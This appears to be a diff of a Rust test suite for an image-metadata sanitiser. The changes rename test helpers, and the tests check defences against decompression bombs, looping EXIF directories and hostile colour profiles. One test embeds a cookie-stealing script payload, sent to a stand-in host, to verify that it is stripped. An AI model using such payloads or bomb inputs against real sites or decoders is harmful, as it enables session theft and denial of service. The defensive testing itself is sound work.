@@ -29,7 +29,7 @@ fn row_05_a_profile_is_inflated_no_further_than_its_cap() {
 /// zTXt and iTXt of 4.7 MiB that inflate to 1 GiB.
 #[test]
 fn row_06_text_is_never_inflated_and_never_stored() {
-    let clean = attack(&png::good(png_writer::Options::default()));
+    let clean = attack(&png::with_options(png_writer::Options::default()));
     for kind in [png::Text::Compressed, png::Text::International] {
         let bomb = png::text(kind, 64 << 20);
         let attack = attack(&bomb);
@@ -71,7 +71,7 @@ fn row_23_a_hostile_profile_is_ignored_or_in_the_quote() {
 #[test]
 fn row_24_an_exif_directory_is_read_once_and_nothing_is_followed() {
     for (tiff, expected) in [
-        (exif::looping(), Orientation::Upright),
+        (exif::ifd_loop(), Orientation::Upright),
         (exif::pointer_tree(1, 1_000, 4_000), Orientation::Upright),
         (exif::huge_count(65_535), Orientation::Upright),
     ] {
@@ -88,7 +88,7 @@ fn row_27_no_eight_bytes_of_a_payload_survive() {
     let payload =
         b"PK\x03\x04<script>document.location='https://example.com/'+document.cookie</script>";
     for clean in [
-        png::good(png_writer::Options::default()),
+        png::with_options(png_writer::Options::default()),
         jpeg::with_segments(Vec::new()),
         webp::with_icc(&icc::padded(0)),
     ] {
@@ -140,7 +140,7 @@ fn row_45_the_text_of_a_profile_never_reaches_the_color_library() {
 /// The decoder doubled an eXIf or iCCP chunk as large as the file, and did not count it.
 #[test]
 fn row_50_metadata_as_large_as_the_file_never_reaches_the_codec() {
-    let clean = attack(&png::good(png_writer::Options::default()));
+    let clean = attack(&png::with_options(png_writer::Options::default()));
     assert_costs_nothing(&attack(&png::long_exif(8 << 20)), &clean);
     // The profile is over its limit, so it is reported and not copied.
     let noise: Vec<u8> =
